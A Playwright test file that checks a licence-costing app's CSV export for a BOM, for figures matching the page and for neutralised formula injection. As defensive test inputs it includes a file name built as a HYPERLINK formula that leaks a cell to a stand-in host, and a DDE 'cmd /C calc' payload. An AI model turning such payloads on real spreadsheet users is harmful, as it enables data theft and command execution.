// "Download results (CSV)": the results as a spreadsheet opens them, made in the browser. UTF-8
// with a BOM, every text cell quoted and neutralised against formula injection (OWASP), numbers
// bare, and the same figures as the page.
import { test, expect } from '@playwright/test';
import { readFile } from 'node:fs/promises';
import { importFile, position, watch } from './helpers.mjs';

/** RFC 4180 records: quoted cells may hold commas, doubled quotes and line ends. */
function parseCsv(text) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') (quoted = true), (wasQuoted = true);
    else if (c === ',' || c === '\r') {
      if (c === ',' || text[i + 1] === '\n') rows.at(-1).push({ value: cell, quoted: wasQuoted }), (cell = ''), (wasQuoted = false);
      if (c === '\r') (rows.push([]), i++);
    } else cell += c;
  }
  // A blank line (between tables) is no row.
  return rows.filter((row) => row.length > 1 || (row.length === 1 && (row[0].quoted || row[0].value !== '')));
}

/** The rows of the table under `title`, header first, as arrays of cell values. */
function table(rows, title) {
  const at = rows.findIndex((row) => row.length === 1 && row[0].value === title);
  expect(at, title).toBeGreaterThan(-1);
  const end = rows.findIndex((row, i) => i > at + 1 && row.length === 1 && row[0].quoted);
  return rows.slice(at + 1, end === -1 ? undefined : end);
}

/** "USD 30,775.00" → "30775.00"; "1,234" → "1234". */
const plain = (shown) => shown.replace(/^[A-Z]{3} /, '').replaceAll(',', '');

test('the results download as CSV with a BOM, the page\'s figures, and hostile names neutralised', async ({ page, baseURL }) => {
  const problems = await watch(page, baseURL);
  await page.goto('/');
  await expect(page.getByTestId('total-cost')).toHaveText('USD 756,679.00');
  // A file whose name is a formula, with a line whose product is one.
  const hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open").csv';
  await importFile(page, {
    name: hostile,
    mimeType: 'text/csv',
    buffer: Buffer.from('Product,Metric,Quantity\n"@SUM(1+1)*cmd|\' /C calc\'!A0",Per device,3\n'),
  });
  await expect(page.getByTestId('import-report')).toContainText(`Imported ${hostile}`);

  const downloading = page.waitForEvent('download');
  await page.getByTestId('export-results').click();
  const download = await downloading;
  expect(download.suggestedFilename()).toMatch(/^preflight-results-\d{4}-\d{2}-\d{2}\.csv$/);
  expect(download.url()).toMatch(/^blob:http:\/\/127\.0\.0\.1:\d+\//);
  const bytes = await readFile(await download.path());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.subarray(3).toString('utf8');
  const rows = parseCsv(text);
  await expect(page.getByTestId('workbook-report')).toContainText(`Exported the results as ${download.suggestedFilename()}.`);

  // Each product's position equals the page's, numbers written bare.
  const positions = table(rows, 'Licence position');
  const header = positions[0].map((cell) => cell.value);
  for (const product of ['ms-windows-server-datacenter', 'ms-sql-server-enterprise']) {
    const shown = position(page, product);
    const name = (await page.getByTestId(`position-${product}`).locator('th[scope="row"]').textContent()).replace(/ \(.*\)$/, '');
    const row = positions.find((r) => r[0].value === name);
    expect(row, name).toBeDefined();
    const cell = (column) => row[header.indexOf(column)];
    // The figure, without the packs written under it.
    const required = await shown.field('required').evaluate((cell) => cell.firstChild.textContent);
    expect(cell('Required by the project').value).toBe(plain(required));
    expect(cell('Entitled').value).toBe(plain(await shown.field('entitled').textContent()));
    expect(cell('Shortfall the project adds').value).toBe(plain(await shown.field('shortfall').textContent()));
    expect(cell('Surplus after').value).toBe(plain(await shown.field('surplus').textContent()));
    expect(cell('Cost').value).toBe(plain(await shown.field('cost').textContent()));
    for (const column of ['Required by the project', 'Entitled', 'Shortfall before', 'Shortfall after', 'Cost']) {
      expect(cell(column).quoted, column).toBe(false);
    }
    expect(cell('Currency')).toEqual({ value: 'USD', quoted: true });
  }
  // What to buy: "5 × 16-pack at USD 6,155.00" on the page.
  const toBuy = table(rows, 'To buy');
  const ws = toBuy.find((r) => r[0].value === 'Windows Server Datacenter').map((c) => c.value);
  expect(ws.slice(2)).toEqual(['16', '5', '6155.00', '30775.00', 'USD']);
  await expect(position(page, 'ms-windows-server-datacenter').field('to-buy')).toHaveText('5 × 16-pack at USD 6,155.00');
  // Cost per fiscal year: each year's one-off, recurring and total as the page's table.
  const years = table(rows, 'Cost by fiscal year').slice(1);
  expect(years.length).toBeGreaterThan(0);
  for (const [label, capex, opex, total] of years.map((r) => r.map((c) => c.value))) {
    const shown = page.getByTestId('budget').locator(`tr[data-year="${label}"]`);
    const figure = async (field) => {
      const text = await shown.locator(`[data-field="${field}"]`).textContent();
      return text === '—' ? '' : plain(text);
    };
    expect([capex, opex, total]).toEqual([await figure('capex'), await figure('opex'), await figure('total')]);
  }
  expect(years[0].map((c) => c.value).slice(0, 4)).toEqual(['FY2027', '756679.00', '', '756679.00']);

  // The hostile file name and the finding that begins with it: text behind a single quote.
  const files = table(rows, 'Entitlement files').map((r) => r[0].value);
  expect(files).toContain(`'${hostile}`);
  const findings = table(rows, 'Findings').map((r) => r[2].value);
  expect(findings).toContain(`'${hostile} row 2: "@SUM(1+1)*cmd|' /C calc'!A0" matches no catalogue product and is not counted`);
  // No cell a spreadsheet would run: text never begins a formula; a leading "-" only on a number.
  for (const row of rows) {
    for (const { value, quoted } of row) {
      expect(/^[=+@\t\r\n]/.test(value), value).toBe(false);
      if (value.startsWith('-')) expect(quoted === false && !Number.isNaN(Number(value)), value).toBe(true);
    }
  }
  expect(problems).toEqual([]);
});
